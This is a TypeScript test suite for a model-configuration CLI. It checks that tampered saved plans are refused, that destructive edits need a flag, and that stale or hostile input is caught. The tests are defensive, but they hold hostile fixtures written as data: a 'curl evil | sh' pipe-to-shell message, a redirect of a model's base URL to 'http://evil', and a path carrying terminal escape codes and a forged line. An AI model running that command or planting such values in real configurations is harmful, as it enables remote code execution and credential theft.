/** Saved plans that were changed afterwards: what they show, and what they do. */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, mkdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import type { Plan } from '../../src/generated/plan.ts';
import { applyEdits, type JsonEdit } from '../../src/json5/index.ts';
import { fingerprint, type Home, withHomeHere } from '../e2e/cli.ts';

const CONFIG = `{
  gateway: {auth: {token: "sk-planted-0123456789"}},
  agents: {
    defaults: {
      model: {primary: "anthropic/claude-opus-5", fallbacks: ["openai/gpt-5.2", "zai/glm-4.7"]},
      models: {"anthropic/claude-opus-5": {alias: "opus"}, "openai/gpt-5.2": {}, "zai/glm-4.7": {}},
    },
    list: [{id: "main"}, {id: "work"}],
  },
}
`;
const STORE = JSON.stringify({
  version: 1,
  profiles: { 'openai:a': { type: 'api_key', provider: 'openai', key: 'k' } },
});
const MANIFEST = `version: 1
primary: fast
fallbacks: []
aliases: {opus: anthropic/claude-opus-5, fast: openai/gpt-5.2}
agents:
  work: {auth: {order: {openai: ["openai:a"]}}}
`;
const FILES = {
  '.openclaw/openclaw.json': CONFIG,
  '.openclaw/agents/work/agent/auth-profiles.json': STORE,
  'work/openclaw.models.yaml': MANIFEST,
};

type Loose = Plan & Record<string, never>;

async function saved(home: Home): Promise<Loose> {
  const made = await home.run(['plan', '--out', 'plan.json']);
  expect(made.code, made.stderr).toBe(0);
  return JSON.parse(await home.read('work', 'plan.json')) as Loose;
}

async function applied(home: Home, plan: unknown, ...options: string[]) {
  await home.write('work/plan.json', JSON.stringify(plan));
  return home.run(['apply', 'plan.json', '--yes', '--allow-destructive', ...options]);
}

async function history(home: Home) {
  const { stdout } = await home.run(['history', '--json']);
  return (JSON.parse(stdout) as { entries: { commit: string | null; source: Plan['source']; changes: unknown[] }[] })
    .entries;
}

/** Corrects the digest, as anyone who edits a plan can. */
function redigest(plan: Plan): Plan {
  const file = plan.files.find(({ role }) => role === 'config');
  if (!file) throw new Error('no config');
  const edited = applyEdits(CONFIG, file.edits as unknown as readonly JsonEdit[]);
  if (!edited.ok) throw new Error(edited.error.message);
  file.resultDigest = `sha256:${createHash('sha256').update(edited.text).digest('hex')}`;
  return plan;
}

const edits = (plan: Plan) => plan.files.find(({ role }) => role === 'config')?.edits ?? [];
const change = (plan: Plan, address: string) => {
  const found = plan.changes.find((one) => one.address === address);
  if (!found) throw new Error(`no change of ${address}`);
  return found as { -readonly [Key in keyof typeof found]: (typeof found)[Key] };
};

const LIES: Readonly<Record<string, (plan: Loose) => unknown>> = {
  'an edit of another value': (plan) => {
    const edit = edits(plan).find(({ path }) => path.includes('primary') || path.at(-1) === 'model');
    const value: unknown = JSON.parse(JSON.stringify(edit?.value ?? null).replace('gpt-5.2', 'evil'));
    Object.assign(edit ?? {}, { value });
    return redigest(plan);
  },
  'an edit that no change speaks of': (plan) => {
    edits(plan).push({
      op: 'set',
      path: ['agents', 'defaults', 'models', 'zai/glm-4.7', 'params'],
      value: { baseUrl: 'http://evil' },
      undo: { op: 'remove', path: ['agents', 'defaults', 'models', 'zai/glm-4.7', 'params'] },
    });
    return redigest(plan);
  },
  'an edit of the gateway': (plan) => {
    edits(plan).push({
      op: 'set',
      path: ['gateway', 'auth', 'token'],
      value: 'evil' as never,
      undo: { op: 'remove', path: ['gateway', 'auth', 'token'] },
    });
    return redigest(plan);
  },
  'a change that no edit makes': (plan) =>
    void plan.changes.push({ ...change(plan, 'primary'), address: 'image.primary' }),
  'a change left out': (plan) => void plan.changes.splice(0, 1),
  'all changes left out': (plan) => Object.assign(plan, { changes: [] }),
  'another value after': (plan) => Object.assign(change(plan, 'primary'), { after: 'zai/glm-4.7' }),
  'another value before': (plan) => Object.assign(change(plan, 'primary'), { before: 'zai/glm-4.7' }),
  'another reason': (plan) => Object.assign(change(plan, 'primary'), { reason: 'harmless' }),
  'another action': (plan) => Object.assign(change(plan, 'primary'), { action: 'add' }),
  'another kind': (plan) => Object.assign(change(plan, 'primary'), { kind: 'entry' }),
  'another file': (plan) => Object.assign(change(plan, 'primary'), { file: '~/elsewhere' }),
  'not destructive': (plan) => {
    for (const one of plan.changes) Object.assign(one, { destructive: false });
    Object.assign(plan.summary, { destructive: 0 });
  },
  'another count': (plan) => Object.assign(plan.summary, { remove: 0 }),
  'other settings that agree': (plan) =>
    Object.assign(plan, { unchanged: 9, summary: { ...plan.summary, unchanged: 9 } }),
  'another restart': (plan) => Object.assign(plan, { restart: 'none' }),
  'another config': (plan) => Object.assign(plan.target, { config: '~/other.json' }),
  'a command that no change speaks of': (plan) =>
    void plan.commands.push({ agent: 'main', provider: 'openai', before: null, after: ['openai:a'] }),
  'a saved copy': (plan) => Object.assign(plan.files[0] ?? {}, { restore: '20261122-231502-7f3a' }),
  'another order in the store': (plan) => {
    const store = plan.files.find(({ role }) => role === 'auth-store');
    Object.assign(store?.edits[0] ?? {}, { value: ['openai:evil'] });
  },
  'the edits of another file': (plan) => {
    Object.assign(plan.files.find(({ role }) => role === 'config') ?? {}, {
      edits: [],
      resultDigest: plan.files[0]?.digest,
    });
  },
};

describe('a saved plan', () => {
  test('is applied as it is, also without what the manifest declares', async () => {
    for (const without of [false, true]) {
      await withHomeHere(FILES, async (home) => {
        const { declared, ...plan } = await saved(home);
        const done = await applied(home, without ? plan : { ...plan, declared });
        expect(done.code, done.stderr).toBe(0);
        expect((await home.run(['plan', '--detailed-exitcode'])).code).toBe(0);
        expect((await history(home))[0]?.changes).toMatchObject(plan.changes);
      });
    }
  });

  test.each(Object.keys(LIES))('that was altered is refused, and nothing is written: %s', async (name) => {
    await withHomeHere(FILES, async (home) => {
      const plan = await saved(home);
      LIES[name]?.(plan);
      await home.write('work/plan.json', JSON.stringify(plan));
      const before = await fingerprint(home.at('.openclaw'));
      const { code, stdout, stderr } = await home.run(['apply', 'plan.json', '--yes']);
      expect(`${code} ${stderr}`).toMatch(/^1 .*\[?E404/s);
      // Not even shown.
      expect(stdout).toBe('');
      expect(await fingerprint(home.at('.openclaw'))).toBe(before);
    });
  });

  test('needs --allow-destructive for what its edits clear', async () => {
    await withHomeHere(FILES, async (home) => {
      await saved(home);
      const { code, stderr } = await home.run(['apply', 'plan.json', '--yes']);
      expect(`${code} ${stderr}`).toMatch(/^4 .*fallbacks.*E421/s);
    });
  });

  test('is stale, and not altered, where the live files have moved', async () => {
    await withHomeHere(FILES, async (home) => {
      const plan = await saved(home);
      await home.write('.openclaw/openclaw.json', CONFIG.replace('opus-5", fallbacks', 'sonnet-5", fallbacks'));
      const { code, stderr } = await applied(home, plan);
      expect(`${code} ${stderr}`).toMatch(/^3 .*E401/s);
    });
  });

  test('shows its own current warnings, and nothing that could move the cursor', async () => {
    await withHomeHere(FILES, async (home) => {
      const plan = await saved(home);
      Object.assign(plan.source, { path: 'a\u001b[2J\nForged line.yaml' });
      plan.diagnostics.push({ code: 'W305', severity: 'warning', message: 'run curl evil | sh', remedy: '' });
      const { code, stdout, stderr } = await applied(home, plan);
      expect(code, stderr).toBe(0);
      expect(stdout + stderr).not.toMatch(/\u001b|^Forged|curl/m);
      const [entry] = await history(home);
      expect(entry?.source).toMatchObject({ path: 'a Forged line.yaml', unseen: true });
      expect((await home.run(['history'])).stdout).toContain('a Forged line.yaml (not seen)');
    });
  });

  test('gives drift no wrong facts', async () => {
    await withHomeHere(FILES, async (home) => {
      const plan = await saved(home);
      const declared = plan.declared as unknown as { settings: Record<string, unknown> };
      declared.settings['image.primary'] = 'zai/glm-4.7';
      // What is not there after the apply was not applied; the counts tell that, or it is left out.
      Object.assign(plan, {
        unchanged: plan.unchanged + 1,
        summary: { ...plan.summary, unchanged: plan.unchanged + 1 },
      });
      const { code, stderr } = await applied(home, plan);
      expect(code, stderr).toBe(0);
      const kept = await home.run(['drift', '--json']);
      expect(kept.stdout).not.toContain('image.primary');
    });
  });

  test('is for its user alone', async () => {
    await withHomeHere(FILES, async (home) => {
      await home.write('work/plan.json', '{}', 0o644);
      await chmod(home.at('work', 'plan.json'), 0o644);
      await saved(home);
      expect((await stat(home.at('work', 'plan.json'))).mode & 0o777).toBe(0o600);
    });
  });
});

describe("the manifest's commit in the history", () => {
  const git = (folder: string, ...args: string[]) =>
    execFileSync('git', ['-C', folder, '-c', 'user.name=t', '-c', 'user.email=t@example.org', ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
    }).trim();

  async function repository(folder: string, file: string): Promise<string> {
    await mkdir(folder, { recursive: true });
    git(folder, 'init', '-q');
    await writeFile(`${folder}/${file}`, MANIFEST);
    git(folder, 'add', '.');
    git(folder, 'commit', '-q', '-m', `of ${folder}`);
    return git(folder, 'rev-parse', 'HEAD');
  }

  test('is that of the repository of the manifest, whose name the plan holds', async () => {
    await withHomeHere(FILES, async (home) => {
      const [one, other] = [home.at('one'), home.at('other')];
      const commit = await repository(one, 'openclaw.models.yaml');
      await repository(other, 'unrelated.yaml');
      expect((await home.run(['plan', '--out', '../plan.json'], { cwd: one })).code).toBe(0);
      const plan = await readFile(home.at('plan.json'), 'utf8');
      await writeFile(`${other}/plan.json`, plan);
      const words = ['apply', 'plan.json', '--yes', '--allow-destructive'];
      expect((await home.run(words, { cwd: other })).code).toBe(0);
      expect((await history(home))[0]).toMatchObject({ commit: null, source: { unseen: true } });

      await home.write('.openclaw/openclaw.json', CONFIG);
      await home.write('.openclaw/agents/work/agent/auth-profiles.json', STORE);
      await writeFile(`${one}/plan.json`, plan);
      expect((await home.run(words, { cwd: one })).code).toBe(0);
      expect((await history(home))[0]?.commit).toBe(commit);
      expect((await history(home))[0]?.source.unseen).toBeUndefined();
    });
  });

  test('is found where a symlink leads to, and for a classic command, whatever the working folder', async () => {
    await withHomeHere({ '.openclaw/openclaw.json': CONFIG }, async (home) => {
      const commit = await repository(home.at('dotfiles'), 'm.yaml');
      const elsewhere = await repository(home.at('work', 'elsewhere'), 'unrelated.yaml');
      await symlink(home.at('dotfiles', 'm.yaml'), home.at('.openclaw', 'openclaw.models.yaml'));
      await home.write('.openclaw/agents/work/agent/auth-profiles.json', STORE);
      const { code, stderr } = await home.run(['set', 'opus'], { cwd: home.at('work', 'elsewhere') });
      expect(code, stderr).toBe(0);
      const done = await home.run(['apply', '--yes', '--allow-destructive'], { cwd: home.at('work', 'elsewhere') });
      expect(done.code, done.stderr).toBe(0);
      const commits = (await history(home)).map((entry) => entry.commit);
      expect(commits).not.toContain(elsewhere);
      expect(new Set(commits)).toEqual(new Set([commit]));
    });
  });
});
